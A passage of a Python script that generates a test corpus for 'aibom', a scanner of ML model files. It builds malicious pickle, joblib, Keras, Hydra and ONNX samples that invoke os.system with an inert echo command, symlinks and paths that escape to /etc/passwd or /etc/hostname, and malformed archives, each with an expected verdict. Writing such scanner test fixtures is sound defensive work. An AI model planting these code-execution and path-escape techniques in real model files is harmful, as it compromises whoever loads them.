    """NEWOBJ of the wrapper class, then `state` (opcodes leaving one value) and BUILD."""
    return g0(module, cls) + b")\x81" + state + b"b"


def pdict(*entries: bytes) -> bytes:
    return b"}(" + b"".join(entries) + b"u"


JOBLIB_F8 = b"Vorder\nVC\nVdtype\n" + g0("numpy", "dtype") + b"Vf8\n\x85R"


def joblib_arrays(c: Corpus) -> None:
    m = "malicious/"
    # The shape (2, 3) is memoized first and fetched with BINGET: the wrapper's data is 48 bytes.
    shape_memo = (P2 + b"K\x02K\x03\x86q\x070"
                  + joblib_wrapper(pdict(JOBLIB_F8, b"Vshape\nh\x07")) + b"\x28" * 48 + b"0"
                  + JOBLIB_PAYLOAD + b"N" + STOP)
    c.add(m + "joblib_shape_from_memo.joblib", shape_memo, "unsafe", [DG, DC],
          "joblib array whose shape comes from the memo (BINGET): 48 bytes of data, then os.system")
    # numpy.dtype("V8") whose BUILD state sets item size 8 and flags 1 (NPY_ITEM_HASOBJECT):
    # joblib reads an embedded pickle, not raw bytes.
    dtype = (b"Vorder\nVC\nVdtype\n" + g0("numpy", "dtype") + b"VV8\n\x85R"
             + b"(K\x03V|\nNNNK\x08K\x01K\x01tb")
    object_flag = (P2 + joblib_wrapper(pdict(dtype, b"Vshape\nK\x01\x85")) + P2 + JOBLIB_PAYLOAD + b"N" + STOP
                   + b"N" + STOP)
    c.add(m + "joblib_void_dtype_object_flag.joblib", object_flag, "unsafe", [DG, DC],
          "joblib array of a void dtype whose state sets the has-object flag: joblib reads the os.system pickle that follows as the array")
    # A list as the shape: joblib accepts any sequence; the analysis cannot size the data.
    unresolved = (P2 + joblib_wrapper(pdict(JOBLIB_F8, b"Vshape\n]K\x05a")) + b"\x28" * 40 + b"0"
                  + JOBLIB_PAYLOAD + b"N" + STOP)
    c.add(m + "joblib_shape_list.joblib", unresolved, "unsafe", ["joblib-array-unresolved", DG, DC],
          "joblib array whose shape is a list (not sized by the analysis): every later position is tried and the os.system call after the data is found")
    legacy = (P2 + joblib_wrapper(pdict(b"Vfilename\nV../../outside/array.npy\n"), "NDArrayWrapper",
                                  "joblib.numpy_pickle_compat") + STOP)
    c.add(m + "joblib_external_array.pkl", legacy, "unsafe", ["joblib-external-array"],
          "legacy joblib NDArrayWrapper naming ../../outside/array.npy, which joblib loads with allow_pickle=True")


def _patch_local_name(buf: bytes, old: bytes, new: bytes) -> bytes:
    """Rename the first local header's file name only (central directory keeps the old name)."""
    i = buf.index(b"PK\x03\x04")
    assert buf[i + 30:i + 30 + len(old)] == old
    return buf[:i + 30] + new + buf[i + 30 + len(old):]


def malformed(c: Corpus) -> None:
    f = "malformed/"
    c.add(f + "torch_storage_truncated.pt", tzip([("data.pkl", DATA_PKL), ("data/0", TENSOR_BYTES[:12])]),
          "malformed", ["torch-storage-mismatch"],
          "torch zip whose data.pkl names storage '0' of 4 floats (16 bytes) but the record holds 12")
    c.add(f + "torch_storage_unreferenced.pt",
          tzip([("data.pkl", DATA_PKL), ("data/0", TENSOR_BYTES), ("data/1", b"\x00" * 64)]),
          "malformed", ["torch-storage-mismatch"],
          "torch zip with a record data/1 that no persistent id of data.pkl names")
    c.add(f + "joblib_lz4_legacy_after_frame.joblib", lz4_frame(b"") + lz4_legacy(MAL), "malformed",
          ["archive-malformed"],
          "an empty LZ4 frame, then the os.system pickle in a legacy LZ4 frame: liblz4's frame decoder (so "
          "joblib) stops at the legacy magic (frame type unknown), so the pickle never loads")
    c.add(f + "empty_weights/pytorch_model.bin", b"", "malformed", ["empty-file"], "zero-byte weights file")
    c.exp(f + "empty_weights", "malformed", ["empty-file"], "directory whose only weights file is empty")
    c.add(f + "random.safetensors", prng(b"aibom-random-safetensors", 256), "malformed", ["safetensors-malformed"],
          "256 pseudo-random bytes (SHA-256 counter stream) named .safetensors")
    c.add(f + "safetensors_header_too_long.safetensors",
          struct.pack("<Q", 1_000_000) + b'{"__metadata__":{"format":"pt"}}', "malformed", ["safetensors-malformed"],
          "declared header length 1,000,000 is larger than the file")
    t = '"a":{"dtype":"F32","shape":[4],"data_offsets":[0,16]},"b":{"dtype":"F32","shape":[4],"data_offsets":[8,24]}'
    c.add(f + "safetensors_overlap.safetensors", st_raw("{" + t + "}", bytes(24)), "malformed", ["safetensors-malformed"],
          "tensors a [0,16) and b [8,24) overlap")
    t = '"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"b":{"dtype":"F32","shape":[2],"data_offsets":[16,24]}'
    c.add(f + "safetensors_gap.safetensors", st_raw("{" + t + "}", bytes(24)), "malformed", ["safetensors-malformed"],
          "bytes [8,16) belong to no tensor (the format requires contiguous, fully covered data)")
    c.add(f + "safetensors_bad_dtype.safetensors",
          st_raw('{"a":{"dtype":"F33","shape":[2],"data_offsets":[0,8]}}', bytes(8)), "malformed", ["safetensors-malformed"],
          "unknown dtype F33")
    c.add(f + "safetensors_shape_mismatch.safetensors",
          st_raw('{"a":{"dtype":"F32","shape":[3,3],"data_offsets":[0,16]}}', bytes(16)), "malformed",
          ["safetensors-malformed"], "shape [3,3] F32 needs 36 bytes, data_offsets cover 16")
    t = ('"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"b":{"dtype":"F32","shape":[2],"data_offsets":[8,16]},'
         '"a":{"dtype":"F32","shape":[4],"data_offsets":[0,16]}')
    c.add(f + "safetensors_duplicate_key.safetensors", st_raw("{" + t + "}", bytes(16)), "malformed",
          ["safetensors-malformed"], "tensor name 'a' appears twice in the header JSON (first-wins and last-wins parsers disagree)")
    c.add(f + "safetensors_metadata_not_string.safetensors",
          st_raw('{"__metadata__":{"format":"pt","epochs":3},"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}', bytes(8)),
          "malformed", ["safetensors-malformed"], "__metadata__ value is a number; the format allows only strings")
    c.add(f + "safetensors_offset_oob.safetensors",
          st_raw('{"a":{"dtype":"F32","shape":[1024],"data_offsets":[0,4096]}}', bytes(16)), "malformed",
          ["safetensors-malformed"], "data_offsets end at 4096, the data section has 16 bytes")
    whole = mini(BENIGN_DICT, 4)
    c.add(f + "truncated.pkl", whole[:len(whole) // 2], "malformed", ["pickle-malformed"],
          "benign protocol-4 dict pickle cut in the middle (no STOP)")
    c.add(f + "trailing_garbage.pkl", whole + bytes(64), "malformed", ["pickle-trailing-data"],
          "benign pickle followed by 64 NUL bytes that are not another pickle")
    hdr = "{'descr': '<f4', 'fortran_order': False, 'shape': (4,) "
    hdr += " " * ((-(10 + len(hdr) + 1)) % 64) + "\n"
    c.add(f + "npy_bad_header.npy", b"\x93NUMPY\x01\x00" + struct.pack("<H", len(hdr)) + hdr.encode() + TENSOR_BYTES,
          "malformed", ["npy-malformed"], "npy header dict literal is never closed")
    z = tzip([("data.pkl", DATA_PKL), ("data/0", TENSOR_BYTES)])
    cd = struct.unpack("<I", z[-6:-2])[0]
    c.add(f + "zip_truncated.pt", z[:cd], "malformed", ["zip-malformed"],
          "benign torch zip cut right before its central directory (no EOCD)")
    c.add(f + "broken_symlink/config.json", HF_CONFIG)
    c.link(f + "broken_symlink/model.safetensors", "missing-blob")
    c.exp(f + "broken_symlink", "malformed", ["symlink-broken"], "model.safetensors -> missing-blob (dangling relative link)")
    c.add(f + "escaping_symlink/config.json", HF_CONFIG)
    c.link(f + "escaping_symlink/weights.bin", "/etc/hostname")
    c.link(f + "escaping_symlink/other.bin", "../../outside")
    c.exp(f + "escaping_symlink", "unsafe", ["symlink-escape"],
          "weights.bin -> /etc/hostname (absolute) and other.bin -> ../../outside (escapes the root)")
    c.add(f + "partial_download/config.json", HF_CONFIG)
    c.add(f + "partial_download/model.safetensors.incomplete", st_model()[:40])
    c.exp(f + "partial_download", "malformed", ["partial-download"],
          "huggingface_hub left model.safetensors.incomplete (first 40 bytes) and no model.safetensors")


# ---------------------------------------------------------------------------------------------
# Self-checks (parsers only; nothing is loaded).

def self_check(c: Corpus) -> None:
    plain = {"name": "aibom", "weights": [0.5, -1.25, 2.0], "layers": 3, "big": 2**70, "neg": -5,
             "mid": 70000, "bias": None, "ok": True, "no": False, "t": (1, 2), "t4": (1, 2, 3, 4),
             "empty": [], "e2": {}, "et": (), "one": [1], "s": "x" * 300, "again": "aibom"}
    for proto in range(0, 6):
        assert mini(plain, proto) == pickle.dumps(plain, proto), f"MiniPickler differs at protocol {proto}"
    withbytes = {"b": b"\x00\x01", "long": b"y" * 300}
    for proto in (3, 4, 5):
        assert mini(withbytes, proto) == pickle.dumps(withbytes, proto)

    def genops_ok(data: bytes) -> None:
        for _ in pickletools.genops(io.BytesIO(data)):
            pass

    for p in ("benign/dict_p2.pkl", "benign/dict_p4.pkl", "benign/proto0_list.pkl", "benign/sklearn_like.pkl",
              "malicious/reduce_os_system_p4.pkl", "malicious/numpy_prod_memo.pkl", "malicious/frame_divergence.pkl"):
        genops_ok(c.files[p])
    for p, data in c.files.items():
        if data[:4] == b"PK\x03\x04" and not any(k in p for k in ("mismatch", "flag_bit", "bad_crc", "duplicate", "truncated")):
            with zipfile.ZipFile(io.BytesIO(data)) as z:
                assert z.testzip() is None, p
    with zipfile.ZipFile(io.BytesIO(c.files["malicious/pickle_zip_polyglot.pkl"])) as z:
        assert z.testzip() is None and "archive/data.pkl" in z.namelist()
    assert c.files["malicious/zlib_magic_proto0.pkl"][:2] == b"(S" and (0x28 * 256 + 0x53) % 31 == 0
    for p, data in c.files.items():
        if p.endswith(".safetensors") and p.startswith("benign/"):
            n = struct.unpack("<Q", data[:8])[0]
            hdr = json.loads(data[8:8 + n])
            assert n % 8 == 0 and max(v["data_offsets"][1] for k, v in hdr.items() if k != "__metadata__") == len(data) - 8 - n
        if p.endswith(".npy") and not p.startswith("malformed/"):
            assert (10 + struct.unpack("<H", data[8:10])[0]) % 64 == 0
    # Python's tarfile lists the tar samples as the findings describe them.
    assert tar_listing(c.files["malicious/tar_traversal_symlink.tar"]) == [
        ("config.json", "file", ""), ("../../evil.txt", "file", ""), ("model.bin", "symlink", "/etc/passwd")]
    assert [n for n, _, _ in tar_listing(c.files["malicious/legacy_torch_tar.pt"])] == [
        "sys_info", "pickle", "tensors", "storages"]
    assert [n for n, _, _ in tar_listing(c.files["benign/sagemaker/model.tar.gz"])] == [
        "config.json", "model.safetensors", "code/requirements.txt"]
    for p in ("malicious/tar_os_system.tar", "malicious/nemo_payload.nemo"):
        assert all(k == "file" for _, k, _ in tar_listing(c.files[p])), p
    # XXH32: known values (the last one, past the 16-byte stripes, as liblz4 checks it as a
    # frame's content checksum) and the header every frame written here starts with.
    assert xxh32(b"") == 0x02CC5D05 and xxh32(b"", 0x9E3779B1) == 0x36B78AE7
    assert xxh32(b"abc") == 0x32D153FF and xxh32(b"a" * 100) == 0x17E3108B
    assert lz4_frame(b"")[:7] == b"\x04\x22\x4d\x18\x64\x40\xa7"
    mib = sum(len(d) for d in c.files.values()) / 2**20
    assert mib < 1.0, f"corpus is {mib:.2f} MiB"


# ---------------------------------------------------------------------------------------------
# Output.

def readme(c: Corpus) -> bytes:
    lines = [
        "# aibom sample corpus",
        "",
        "Generated by `python3 samples/generate.py` (standard library only, deterministic: run it",
        "twice and every byte is the same). Do not edit the files by hand; change the table in",
        "`generate.py`, which also writes `expected.json` and this README.",
        "",
        "Every payload is harmless (`echo aibom-sample`, `print('aibom-sample')`, `127.0.0.1:9`,",
        "`/tmp/aibom-sample.*`) and no sample was ever loaded: pickles are assembled opcode by",
        "opcode. Still, **never load these files** with pickle, torch, joblib or numpy: the malicious",
        "ones really do call what they say. `tests/oracle/oracle.py` shows what CPython's",
        "unpicklers would resolve, with every global replaced by an inert stub.",
        "",
        "`expected.json` maps a path relative to `samples/` (a file, or a directory that is scanned",
        "as a whole) to the verdict aibom must give and the finding codes that must appear (others",
        "may appear too). Row numbers (#N) refer to section 3 of the research note",
        "`pickle-scanners.md` (published scanner bypasses). Not built: #30 (Hide-and-Seek, no",
        "recipe), #31 Keras Lambda and #32 GGUF template (not pickle formats) and zstd-compressed",
        "samples (no zstd in the Python standard library). 7z samples use the Copy coder and were",
        "checked with the sevenz-rust2 reader. LZ4 frames are written by a small encoder in",
        "`generate.py` (stored blocks) and checked with the `lz4` package by `check_lz4.py`.",
        "",
        "`check_with_torch.py` loads every PyTorch sample (zip and legacy checkpoints, tar",
        "checkpoints, the .nemo tars, the Keras TorchModuleWrapper payload) with torch's own loaders,",
        "every global replaced by a recording stub, and checks that torch reaches what the findings",
        "say; TorchScript archives other than the benign one are read statically. Not run in CI",
        "(torch and its dependencies are a ~3.5 GB download):",
        "",
        "    python3 -m venv /tmp/tv && /tmp/tv/bin/pip install torch numpy",
        "    /tmp/tv/bin/python samples/check_with_torch.py",
        "",
        "`check_with_tensorflow.py` reads the TensorFlow samples with TensorFlow's own code: the",
        "SavedModels with the loader's parser, `saved_model_cli scan` and both loaders' graph",
        "import, stopped before anything runs (each well-formed one must import; the ReadFile/",
        "WriteFile init op runs only with both paths mapped into a temporary directory), the",
        "checkpoints with `tf.train.load_checkpoint` (the truncated shard's second tensor fails to",
        "read), the Keras TFSMLayer with `tf.saved_model.load` replaced by a recorder, and the",
        "TFLite samples of `formats/tflite/` (plus a Flex and a custom-op model made with TF's",
        "converter) with aibom and `tf.lite.Interpreter`: the builtin-only model allocates, the",
        "custom and Flex ones are refused at allocate_tensors, the truncated one at construction;",
        "nothing is invoked. Not run in CI (tensorflow-cpu is a ~1.6 GB install):",
        "",
        "    python3 -m venv /tmp/tfv && /tmp/tfv/bin/pip install tensorflow-cpu",
        "    /tmp/tfv/bin/python samples/check_with_tensorflow.py",
        "",
        "`release/` is a whole release for `aibom generate` (no expectations below): a model, a",
        "dataset directory, a `sha256sum` and a JSON dataset manifest, a prompt package,",
        "lm-evaluation-harness results and a runtime policy, named by `release/aibom.toml`",
        "(`[release]`).",
        "",
        "| path | verdict | codes that must appear | what |",
        "|---|---|---|---|",
    ]
    for path in sorted(c.expect):
        e = c.expect[path]
        codes = ", ".join(f"`{x}`" for x in e["codes"]) or "none"
        suffix = "/" if path not in c.files else ""
        lines.append(f"| `{path}{suffix}` | {e['verdict']} | {codes} | {e['why'].replace('|', '/')} |")
    lines.append("")
    return "\n".join(lines).encode()


def keras_archive(layers: list) -> bytes:
    """A Keras 3 `.keras` zip as `model.save` lays it out (metadata.json, config.json; no
    weights: none of these layers has any aibom reads)."""
    config = {"module": "keras", "class_name": "Sequential",
              "config": {"name": "sequential", "trainable": True, "dtype": "float32",
                         "layers": [{"module": "keras.layers", "class_name": "InputLayer",
                                     "config": {"batch_shape": [None, 4], "dtype": "float32",
                                                "name": "input_layer"},
                                     "registered_name": None}] + layers},
              "registered_name": None, "build_config": {"input_shape": [None, 4]}}
    meta = {"keras_version": "3.6.0", "date_saved": "2024-01-01@00:00:00"}
    return build_zip([Entry("metadata.json", json.dumps(meta).encode()),
                      Entry("config.json", json.dumps(config).encode(), deflate=True)])


HYDRA_BENIGN = b"""# NeMo-style model config (aibom sample): hydra.utils.instantiate(cfg.model.optim) etc.
name: aibom-tiny
model:
  sample_rate: 16000
  metadata: {_target_: builtins.dict, source: aibom}
  optim:
    _target_: torch.optim.Adam
    _partial_: true
    lr: 0.001
  sched:
    _target_: "torch.optim.lr_scheduler.CosineAnnealingLR"
    T_max: 10
trainer:
  max_epochs: 1  # _target_: os.system in a comment is never read
  note: 'a string that says _target_: os.system is no key'
"""

HYDRA_MALICIOUS = b"""# Hydra config (aibom sample): hydra.utils.instantiate(cfg.callback) runs the command.
model:
  _target_: torch.nn.Linear
  in_features: 4
  out_features: 2
callback:
  _target_: os.system
  _args_:
    - echo aibom-sample
"""


def configs(c: Corpus) -> None:
    """Configs that load code or carry files: Keras layers, Hydra `_target_`, encoded pickles."""
    m, b = "malicious/", "benign/"
    wrapped = tzip([("data.pkl", MAL_P2)], prefix="torch_module/")
    c.add(m + "keras_torch_module_wrapper.keras", keras_archive([
        {"module": "keras.layers", "class_name": "TorchModuleWrapper",
         "config": {"name": "torch_module_wrapper", "trainable": True, "dtype": "float32",
                    "module": base64.b64encode(wrapped).decode(), "output_shape": None},
         "registered_name": "TorchModuleWrapper"}]),
        "unsafe", ["keras-embedded-object", "config-embedded-payload", DG, DC],
        "Keras 3 archive whose TorchModuleWrapper layer stores base64 of a torch.save zip (as get_config writes it); its data.pkl calls os.system, which from_config's torch.load(weights_only=False) would run")
    c.add(m + "keras_tfsm_layer.keras", keras_archive([
        {"module": "keras.layers", "class_name": "TFSMLayer",
         "config": {"name": "tfsm_layer", "trainable": True, "dtype": "float32",
                    "filepath": "/tmp/aibom-sample/saved_model", "call_endpoint": "serve",
                    "call_training_endpoint": None},
         "registered_name": "TFSMLayer"}]),
        "unsafe", ["keras-external-load"],
        "Keras 3 archive with a TFSMLayer whose filepath is an absolute path outside the model: loading calls tf.saved_model.load on it")
    c.add(m + "hydra_os_system/config.yaml", HYDRA_MALICIOUS, "unsafe", ["config-callable-target"],
          "Hydra config whose callback _target_ is os.system with the command in _args_ (denylisted: critical)")
    c.add(b + "hydra_config/config.yaml", HYDRA_BENIGN, "clean", ["config-callable-target"],
          "NeMo-style Hydra config: builtins.dict (allowlisted, a fact), torch.optim.Adam with _partial_ and a quoted scheduler (on neither list: low); _target_ in a comment and a string is not read")
    c.add(m + "hex_pickle_config.json",
          jdump({"model_type": "aibom-tiny", "preprocessor": MAL_P2.hex()}),
          "unsafe", ["config-embedded-payload", DG, DC],
          "JSON config whose preprocessor value is the hex of a protocol-2 pickle calling os.system (scanned as a nested file)")


# Formats with no magic number at their start, written field by field: protobufs (onnx.proto
# `TensorProto`, sentencepiece_model.proto `ModelProto`), recognised only by a strict walk, and
# a TensorFlow checkpoint index, recognised by its footer and block checksums.
CODES.update({"onnx-external-data-escape", "unknown-format", "coreml-custom-layer"})


def pb_varint(v: int) -> bytes:
    out = b""
    while True:
        b, v = v & 0x7F, v >> 7
        if not v:
            return out + bytes([b])
        out += bytes([b | 0x80])


def pb_int(field: int, v: int) -> bytes:
    return pb_varint(field << 3) + pb_varint(v)


def pb_bytes(field: int, payload: bytes) -> bytes:
    return pb_varint(field << 3 | 2) + pb_varint(len(payload)) + payload


def pb_f32(field: int, x: float) -> bytes:
    return pb_varint(field << 3 | 5) + struct.pack("<f", x)


def onnx_tensor(dims, raw: bytes, name: bytes = b"", external: bytes = b"") -> bytes:
    """A TensorProto as onnx.numpy_helper.from_array writes it (dims, data_type FLOAT, name,
    raw_data), or with its data external (`location` entry, data_location EXTERNAL)."""
    out = b"".join(pb_int(1, d) for d in dims) + pb_int(2, 1)
    if name:
        out += pb_bytes(8, name)
    if external:
        return out + pb_bytes(13, pb_bytes(1, b"location") + pb_bytes(2, external)) + pb_int(14, 1)
    return out + pb_bytes(9, raw)


def sentencepiece_model() -> bytes:
    """A 6-piece unigram SentencePiece model (pieces, trainer_spec, normalizer_spec)."""
    pieces = [(b"<unk>", 0.0, 2), (b"<s>", 0.0, 3), (b"</s>", 0.0, 3),
              ("\u2581a".encode(), -1.0, 1), ("\u2581b".encode(), -2.0, 1), (b"c", -3.0, 1)]
    out = b"".join(pb_bytes(1, pb_bytes(1, p) + pb_f32(2, s) + pb_int(3, t)) for p, s, t in pieces)
    out += pb_bytes(2, pb_int(3, 1) + pb_int(4, len(pieces)))
    return out + pb_bytes(3, pb_bytes(1, b"identity") + pb_int(3, 1))


def crc32c(data: bytes) -> int:
    crc = 0xFFFFFFFF
    for byte in data:
        crc ^= byte
        for _ in range(8):
            crc = (crc >> 1) ^ (0x82F63B78 if crc & 1 else 0)
    return crc ^ 0xFFFFFFFF


def table_block(entries) -> bytes:
    """A LevelDB-style table block (no shared key prefixes, one restart point) and its trailer:
    type 0 (uncompressed) and the masked CRC-32C of contents + type."""
    out = b"".join(pb_varint(0) + pb_varint(len(k)) + pb_varint(len(v)) + k + v for k, v in entries)
    out += struct.pack("<II", 0, 1)
    crc = crc32c(out + b"\0")
    masked = (((crc >> 15) | (crc << 17)) + 0xA282EAD8) & 0xFFFFFFFF
    return out + b"\0" + struct.pack("<I", masked)


def tf_checkpoint_index(names) -> bytes:
    """A TensorFlow checkpoint index as BundleWriter lays it out: one data block (the
    BundleHeaderProto under the empty key, then one BundleEntryProto per tensor, sorted), an
    empty metaindex block, the index block and the 48-byte footer ending in the magic. Each
    tensor is float [2] in shard 0 (shard_id 0 is not written), 8 bytes after the one before
    (offset 4, size 5, crc32c 6 of its bytes as `tf_checkpoint_shard` writes them)."""
    header = pb_int(1, 1) + pb_bytes(3, pb_int(1, 1))  # num_shards 1, version { producer 1 }
    entries = []
    for i, n in enumerate(sorted(names)):
        crc = crc32c(f32(2 * i, 2 * i + 1))
        masked = (((crc >> 15) | (crc << 17)) + 0xA282EAD8) & 0xFFFFFFFF
        entry = (pb_int(1, 1) + pb_bytes(2, pb_bytes(2, pb_int(1, 2)))  # DT_FLOAT, shape [2]
                 + (pb_int(4, 8 * i) if i else b"") + pb_int(5, 8)
                 + pb_varint(6 << 3 | 5) + struct.pack("<I", masked))
        entries.append((n, entry))
    data = table_block([(b"", header)] + entries)
    meta = table_block([])
    index = table_block([(max(names), pb_varint(0) + pb_varint(len(data) - 5))])
    footer = (pb_varint(len(data)) + pb_varint(len(meta) - 5)
              + pb_varint(len(data) + len(meta)) + pb_varint(len(index) - 5))
    footer = footer.ljust(40, b"\0") + struct.pack("<Q", 0xDB4775248B80FB57)
    return data + meta + index + footer


def mat4(*matrices) -> bytes:
    """A MATLAB level 4 MAT-file: per matrix five int32 (type, rows, cols, imagf, namlen), the
    NUL-terminated name and the doubles column by column (little-endian, type 0)."""
    out = b""
    for name, rows, cols, values in matrices:
        out += struct.pack("<5i", 0, rows, cols, 0, len(name) + 1) + name + b"\0" + f64(*values)
    return out


def coreml_network(*layers: bytes) -> bytes:
    """A Core ML model (specification 4) whose neuralNetwork (500) holds `layers`."""
    desc = pb_bytes(1, pb_bytes(1, b"x")) + pb_bytes(10, pb_bytes(1, b"y"))
    return pb_int(1, 4) + pb_bytes(2, desc) + pb_bytes(500, b"".join(pb_bytes(1, l) for l in layers))


def protobuf_data(c: Corpus) -> None:
    relu = pb_bytes(1, b"relu") + pb_bytes(2, b"x") + pb_bytes(3, b"y") + pb_bytes(130, pb_int(1, 0))
    c.add("benign/coreml/relu.mlmodel", coreml_network(relu), "clean", [],
          "Core ML neural network with one built-in layer (activation): recognised by a strict walk of Model's top level")
    swish = (pb_bytes(1, b"swish") + pb_bytes(2, b"x") + pb_bytes(3, b"y")
             + pb_bytes(500, pb_bytes(10, b"AibomSwish") + pb_bytes(40, b"sample custom layer")))
    c.add("benign/coreml/custom_layer.mlmodel", coreml_network(swish), "clean", ["coreml-custom-layer"],
          "Core ML custom layer AibomSwish: the app must register native code for it (a low finding: below the high gate)")
    c.add("benign/matlab4/vectors.mat", mat4((b"fit_params", 2, 1, [0.5, -1.0]), (b"theta", 1, 3, [1, 2, 3])),
          "clean", [], "MATLAB level 4 MAT-file (no header): two double matrices chaining to the end of the file; data only")
    tf_names = [b"dense/bias/.ATTRIBUTES/VARIABLE_VALUE", b"dense/kernel/.ATTRIBUTES/VARIABLE_VALUE"]
    c.add("benign/tf_checkpoint/variables.index", tf_checkpoint_index(tf_names), "clean", [],
          "TensorFlow checkpoint index (table with the 0xdb4775248b80fb57 footer, CRC-32C checked blocks): data only")
    c.add("benign/tf_checkpoint/variables.data-00000-of-00001", f32(0, 1, 2, 3))
    c.exp("benign/tf_checkpoint", "clean", [],
          "TensorFlow checkpoint: the index and its one data shard (raw float bytes, recognised through the index that names it: 16 bytes, as its entries place them)")
    c.add("malformed/tf_checkpoint_truncated/variables.index", tf_checkpoint_index(tf_names))
    c.add("malformed/tf_checkpoint_truncated/variables.data-00000-of-00001", f32(0, 1, 2))
    c.exp("malformed/tf_checkpoint_truncated", "malformed", ["tf-checkpoint-data-mismatch"],
          "TensorFlow checkpoint whose shard holds 12 bytes while the index places the second tensor's bytes at 8..16: truncated or substituted")
    c.add("benign/onnx_tensor/input_0.pb", onnx_tensor([2, 3], f32(*range(6)), b"x"), "clean", [],
          "ONNX TensorProto test input (float [2, 3], raw_data): data only, recognised by a strict protobuf walk")
    c.add("benign/sentencepiece/tokenizer.model", sentencepiece_model(), "clean", [],
          "SentencePiece unigram model of 6 pieces: data only, recognised by a strict protobuf walk")
    c.add("malicious/onnx_tensor_external.pb", onnx_tensor([2], b"", b"w", b"../../../etc/hostname"),
          "unsafe", ["onnx-external-data-escape"],
          "ONNX TensorProto whose data is external at ../../../etc/hostname: loading it with a base directory reads that file")
    c.add("malformed/onnx_tensor_short_raw.pb", onnx_tensor([2, 3], f32(*range(5))), "unsupported",
          ["unknown-format"],
          "starts like an ONNX TensorProto, but raw_data holds 5 floats for a [2, 3] shape: not recognised, hashed only")


RELEASE_TOML = b"""# A whole release recorded by `aibom generate model --config aibom.toml` (run from here).

[model]
name = "aibom/support-assistant"
version = "2026.05.1"
owners = ["ML platform <mlp@example.com>"]

[[dataset]]
name = "aibom/support-tickets"
role = "fine-tuning"
provenance = "exported from the ticket system, 2026-05"
license = "proprietary"
classification = "confidential"
sensitive-data = ["customer names"]
owners = ["Support operations"]

[release]
model = "model"
tier = "high"
prompts = "prompts"
evaluations = ["eval/results_2026-05-01T12-00-00.json"]
runtime-policy = ["serving"]

[[release.dataset]]
name = "support-tickets-2026-05"
path = "data/tickets"
declared = "aibom/support-tickets"

[[release.dataset]]
name = "web-crawl-v3"
path = "data/web-crawl-v3.sha256"

[[release.dataset]]
name = "synthetic-dialogues-v1"
path = "data/synthetic-dialogues-v1.json"
"""

RELEASE_CARD = b"""---
license: apache-2.0
library_name: transformers
tags:
  - aibom-sample
datasets:
  - aibom/support-tickets
model-index:
  - name: support-assistant
    results:
      - task:
          type: text-generation
        dataset:
          name: support eval
          type: aibom/support-eval
          split: test
        metrics:
          - type: accuracy
            value: 0.81
            name: Accuracy
---

# aibom support assistant

A two-parameter test model inside a sample release. Not useful for anything else.
"""


def release(c: Corpus) -> None:
    """A whole release around a tiny model: datasets as a directory and as manifests (JSON and
    sha256sum), a prompt package, lm-evaluation-harness results and a runtime policy, with the
    aibom.toml that names them ([release])."""
    r = "release/"
    c.add(r + "aibom.toml", RELEASE_TOML)
    c.add(r + "model/config.json", HF_CONFIG)
    c.add(r + "model/README.md", RELEASE_CARD)
    c.add(r + "model/model.safetensors", st_model())
    c.add(r + "data/tickets/train.jsonl",
          b'{"prompt": "my order is late", "answer": "sorry, let me check"}\n'
          b'{"prompt": "reset password", "answer": "use the reset link"}\n')
    c.add(r + "data/tickets/valid.jsonl", b'{"prompt": "refund?", "answer": "within 30 days"}\n')
    shards = {f"shard-{i:05d}.parquet": hashlib.sha256(b"aibom-crawl-%d" % i).hexdigest() for i in range(3)}
    c.add(r + "data/web-crawl-v3.sha256",
          "".join(f"{h}  web-crawl-v3/{n}\n" for n, h in sorted(shards.items())).encode())
    c.add(r + "data/synthetic-dialogues-v1.json", jdump({"dataset": "synthetic-dialogues", "version": "1", "files": [
        {"path": "dialogues/part-0.jsonl", "sha256": hashlib.sha256(b"aibom-synthetic-0").hexdigest(), "size": 1024},
        {"path": "dialogues/part-1.jsonl", "sha256": hashlib.sha256(b"aibom-synthetic-1").hexdigest(), "size": 2048},
    ]}))
    c.add(r + "prompts/system.txt", b"You are a support assistant. Answer briefly and never share customer data.\n")
    c.add(r + "prompts/templates/answer.jinja", b"{{ system }}\nCustomer: {{ question }}\nAssistant:")
    c.add(r + "prompts/tools.json", jdump([{"type": "function", "function": {
        "name": "lookup_order", "description": "Look up an order by id",
        "parameters": {"type": "object", "properties": {"order_id": {"type": "string"}}, "required": ["order_id"]}}}]))
    c.add(r + "eval/results_2026-05-01T12-00-00.json", jdump({
        "results": {
            "arc_easy": {"alias": "arc_easy", "acc,none": 0.583, "acc_stderr,none": 0.0156,
                         "acc_norm,none": 0.549, "acc_norm_stderr,none": 0.0157},
            "gsm8k": {"alias": "gsm8k", "exact_match,strict-match": 0.1, "exact_match_stderr,strict-match": 0.008,
                      "exact_match,flexible-extract": 0.12, "exact_match_stderr,flexible-extract": "N/A"},
        },
        "group_subtasks": {"arc_easy": [], "gsm8k": []},
        "configs": {"arc_easy": {"task": "arc_easy", "num_fewshot": 0}, "gsm8k": {"task": "gsm8k", "num_fewshot": 5}},
        "versions": {"arc_easy": 1.0, "gsm8k": 3.0},
        "n-shot": {"arc_easy": 0, "gsm8k": 5},
        "higher_is_better": {"arc_easy": {"acc": True, "acc_norm": True}, "gsm8k": {"exact_match": True}},
        "n-samples": {"arc_easy": {"original": 2376, "effective": 2376}, "gsm8k": {"original": 1319, "effective": 1319}},
        "config": {"model": "hf", "model_args": "pretrained=aibom/support-assistant", "batch_size": "8"},
        "lm_eval_version": "0.4.3",
    }))
    c.add(r + "serving/config.yaml", b"max_new_tokens: 512\ntemperature: 0.2\nstop: [\"Customer:\"]\n")
    c.add(r + "serving/guardrails.yaml", b"input:\n  block_pii: true\noutput:\n  block_pii: true\n  max_chars: 4000\n")
    c.add(r + "serving/tools.yaml", b"tools:\n  lookup_order:\n    scopes: [orders:read]\n")


def build() -> Corpus:
    c = Corpus()
    release(c)
    benign(c)
    malicious(c)
    tars(c)
    malformed(c)
    configs(c)
    protobuf_data(c)
    self_check(c)
    return c


def write(c: Corpus, root: Path) -> None:
    for d in OUTPUT_DIRS:
        target = root / d
        if target.is_symlink() or target.is_file():
            target.unlink()
        elif target.exists():
            shutil.rmtree(target)
    for rel in sorted(c.files):
        p = root / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_bytes(c.files[rel])
    for rel in sorted(c.links):
        p = root / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        os.symlink(c.links[rel], p)
    (root / "expected.json").write_bytes(
